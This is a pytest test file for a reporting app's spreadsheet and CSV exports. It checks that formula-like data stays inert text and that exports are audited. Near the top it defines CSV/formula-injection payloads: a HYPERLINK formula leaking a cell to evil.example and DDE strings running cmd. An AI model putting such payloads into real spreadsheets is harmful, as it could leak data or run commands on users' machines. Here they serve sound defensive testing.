"""Tests for exported files: formula-like data stays text in every workbook and CSV we write
(report workbook, each table's 导出Excel, the importers' rejects CSV), and exports are audited."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import datetime

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import make_url, select, update

from common.spreadsheet import csv_cell, is_formula_like, neutralise_workbook
from data_access.db.engine import get_engine
from data_access.db.schema import events, sanling_subjects, units
from data_access.filters import Scope, parse_period
from data_access.queries import units as un

from .conftest import DATA_AS_OF

# What an attacker puts into an event title, a unit name, a subject name, an imported id.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看详情")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
SPACED = "  =1+2"
TABBED = "\t=1+2"
ATTACKS = (HYPERLINK, DDE, AT_SUM, MINUS, SPACED, TABBED)


@pytest.mark.parametrize("value,expected", [
    (HYPERLINK, True), (DDE, True), (AT_SUM, True), (MINUS, True), (SPACED, True), (TABBED, True),
    ("\r=1", True), ("\u3000=1+1", True), ("\n@x", True), ("-", True), ("+", True), ("=", True),
    ("-5", False), ("+3.2", False), ("-1.5e3", False), ("-12%", False), (".5", False),
    ("东风社区", False), ("a=b", False), ("—", False), ("", False), (None, False), (-5, False), (1.5, False),
])
def test_formula_like(value, expected):
    assert is_formula_like(value) is expected


def test_csv_cell_prefixes_only_formula_like_text():
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK
    assert csv_cell(TABBED) == "'" + TABBED
    assert csv_cell(-3) == -3 and csv_cell("-3") == "-3" and csv_cell("东风社区") == "东风社区"


def _cells(xlsx: bytes):
    wb = load_workbook(io.BytesIO(xlsx))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_no_formula(cells, expected_texts):
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"live formulas in the workbook: {formulas[:5]}"
    for text in expected_texts:
        hits = [c for c in cells if c.value == text]
        assert hits, f"{text!r} not preserved as a cell value"
        assert all(c.data_type == "s" and c.quotePrefix for c in hits), text


def test_table_export_keeps_formula_text_as_text():
    """components.tables.to_excel_bytes (every table's 导出Excel): text stays text, numbers stay numbers."""
    from components.tables import to_excel_bytes

    df = pd.DataFrame({"事件标题": list(ATTACKS), "变化": [-3, -1.5, 0, 2, -7, 4],
                       "上报时间": pd.to_datetime(["2026-10-01 08:00"] * 6),
                       "编码": ["-5", "411602", "a", "b", "c", "d"]})
    cells = _cells(to_excel_bytes(df))
    _assert_no_formula(cells, ATTACKS)
    numbers = [c.value for c in cells if c.column == 2 and c.row > 1]
    assert numbers == [-3, -1.5, 0, 2, -7, 4] and all(c.data_type == "n" for c in cells if c.column == 2 and c.row > 1)
    assert all(c.is_date for c in cells if c.column == 3 and c.row > 1)
    assert [c.value for c in cells if c.coordinate == "D2"] == ["-5"]  # a numeric text is left alone


def test_neutralise_counts_and_leaves_plain_cells():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([HYPERLINK, "普通", -2, SPACED])
    assert neutralise_workbook(wb) == 2
    a, b, c, d = wb.active[1]
    assert (a.data_type, a.quotePrefix, b.quotePrefix, c.data_type, d.quotePrefix) == ("s", True, False, "n", True)


@pytest.fixture
def hostile_db(sqlite_tiny, tmp_path) -> str:
    """A private copy of the tiny demo whose event titles, unit and subject names are formula attacks."""
    path = tmp_path / "hostile.db"
    with sqlite3.connect(make_url(sqlite_tiny).database) as src, sqlite3.connect(path) as dst:
        src.backup(dst)
    url = f"sqlite:///{path}"
    with get_engine(url).begin() as conn:
        conn.execute(update(events).values(title=HYPERLINK))
        conn.execute(update(units).where(units.c.level == 1).values(name=DDE))
        conn.execute(update(units).where(units.c.level == 0).values(name=MINUS))
        conn.execute(update(sanling_subjects).values(name=AT_SUM))
    return url


def test_report_workbook_keeps_formula_text_as_text(hostile_db):
    """The meeting workbook (reports.excel) with hostile titles and names: no cell is a formula."""
    from reports.excel import render_excel
    from reports.snapshot import build_snapshot

    eng = get_engine(hostile_db)
    root = un.home_unit(eng, Scope.all())
    snap = build_snapshot(eng, Scope.all(), root, parse_period("2026"), as_of=datetime(2026, 10, 31, 12))
    cells = _cells(render_excel(snap))
    _assert_no_formula(cells, [HYPERLINK, DDE, AT_SUM])  # overdue titles, children, subjects
    assert any(isinstance(c.value, str) and c.value.startswith(MINUS) and c.quotePrefix for c in cells)  # title
    assert any(c.data_type == "n" for c in cells)  # figures stay numbers


def test_rejects_csv_neutralises_formula_keys(hostile_db, tmp_path):
    """An events file whose rejected rows carry formula ids: the rejects CSV quotes them with '."""
    from data_access.importers import import_events

    rows = [(key, "NOPE", "矛盾纠纷", "网格员上报", "常规哨", "2026-10-01 08:30", "2026-10-09", "", "待派单")
            for key in (HYPERLINK, DDE, AT_SUM, MINUS)]
    src = tmp_path / "events.csv"
    pd.DataFrame(rows, columns=["事件编号", "网格编码", "类别", "来源", "吹哨级别", "上报时间", "办结时限", "办结时间",
                                "状态"]).to_csv(src, index=False, encoding="utf-8-sig")
    out = import_events(get_engine(hostile_db), str(src), rejects=str(tmp_path / "rejects.csv"))
    assert out["rejected"] == 4
    with open(out["rejects_file"], encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    keys = [r[1] for r in table[1:]]
    assert sorted(keys) == sorted("'" + k for k in (HYPERLINK, DDE, AT_SUM, MINUS))
    assert not [c for r in table for c in r if is_formula_like(c)]
    assert all(r[0].isdigit() for r in table[1:])  # row numbers stay plain numbers


def test_pdf_draws_dollar_names_as_text(sqlite_tiny, tmp_path):
    """A unit name with matplotlib math ($\\frac{1$) is text in the PDF charts, not a failed export."""
    from reports.pdf import render_pdf
    from reports.snapshot import build_snapshot

    path = tmp_path / "math.db"
    with sqlite3.connect(make_url(sqlite_tiny).database) as src, sqlite3.connect(path) as dst:
        src.backup(dst)
    eng = get_engine(f"sqlite:///{path}")
    with eng.begin() as conn:
        conn.execute(update(units).where(units.c.level == 1).values(name=r"$\frac{1$街道"))
    root = un.home_unit(eng, Scope.all())
    snap = build_snapshot(eng, Scope.all(), root, parse_period("2026-09"), as_of=datetime(2026, 10, 31, 12))
    assert render_pdf(snap)[:5] == b"%PDF-"


# --- audit of exports -----------------------------------------------------------------------------


@pytest.fixture
def tiny_copy(sqlite_tiny, tmp_path) -> str:
    """A private copy of the tiny demo (these tests count audit rows)."""
    path = tmp_path / "copy.db"
    with sqlite3.connect(make_url(sqlite_tiny).database) as src, sqlite3.connect(path) as dst:
        src.backup(dst)
    return f"sqlite:///{path}"


def _audit(url: str) -> list[dict]:
    import json

    from data_access.db.schema import audit_log

    with get_engine(url).connect() as conn:
        rows = conn.execute(select(audit_log).order_by(audit_log.c.id)).mappings().all()
    return [{**r, "detail": json.loads(r["detail"] or "{}")} for r in rows]


def _cli(*args: str):
    import subprocess
    import sys

    from .conftest import ROOT

    return subprocess.run([sys.executable, "-m", "reports", *args], capture_output=True, text=True, cwd=ROOT,
                          check=False, timeout=300)


def test_cli_export_is_audited_as_who_ran_it(tiny_copy, tmp_path):
    import getpass

    before = len(_audit(tiny_copy))
    out = _cli("excel", "--db", tiny_copy, "--period", "2026-09", "--user", "staff", "--sections", "kpis",
               "--out", str(tmp_path / "s.xlsx"))
    assert out.returncode == 0, out.stderr
    rows = _audit(tiny_copy)[before:]
    assert [(r["username"], r["action"]) for r in rows] == [(f"{getpass.getuser()}@cli as staff", "export")]


def test_refused_exports_are_audited(tiny_copy, tmp_path):
    """Out-of-scope unit, unknown unit, bad period, unknown user, unknown or no sections: exit 2, audited."""
    root = un.home_unit(get_engine(tiny_copy), Scope.all())
    cases = [("--user", "staff", "--unit", root.code), ("--unit", "nope'--"), ("--period", "0001-01"),
             ("--user", "nobody"), ("--sections", "kpis,bogus"), ("--sections", ",")]
    for extra in cases:
        before = len(_audit(tiny_copy))
        args = ["pdf", "--db", tiny_copy, "--out", str(tmp_path / "x.pdf")]
        if "--period" not in extra:
            args += ["--period", "2026-09"]
        out = _cli(*args, *extra)
        assert out.returncode == 2 and "error" in out.stderr and not (tmp_path / "x.pdf").exists(), extra
        rows = _audit(tiny_copy)[before:]
        assert len(rows) == 1 and rows[0]["action"] == "export" and rows[0]["detail"].get("refused"), (extra, rows)
        assert rows[0]["username"].endswith("@cli" + (f" as {extra[1]}" if extra[0] == "--user" else ""))


def test_refused_export_through_the_library_is_audited(tiny_copy):
    """reports.export (used by the 导出报告 page) audits a refusal before raising it."""
    import reports
    from data_access.errors import OutOfScopeError

    eng = get_engine(tiny_copy)
    root = un.home_unit(eng, Scope.all())
    sub = un.children(eng, Scope.all(), root)["code"].iloc[0]
    who = reports.Exporter("staff", Scope(sub, 1), "科员")
    before = len(_audit(tiny_copy))
    with pytest.raises(OutOfScopeError):
        reports.export(eng, "excel", who, root.code, "2026-09", as_of=DATA_AS_OF)
    with pytest.raises(ValueError):
        reports.export(eng, "excel", who, sub, "2026-09", sections=(), as_of=DATA_AS_OF)
    rows = _audit(tiny_copy)[before:]
    assert [(r["username"], r["detail"]["unit"], bool(r["detail"]["refused"])) for r in rows] == [
        ("staff", root.code, True), ("staff", sub, True)]
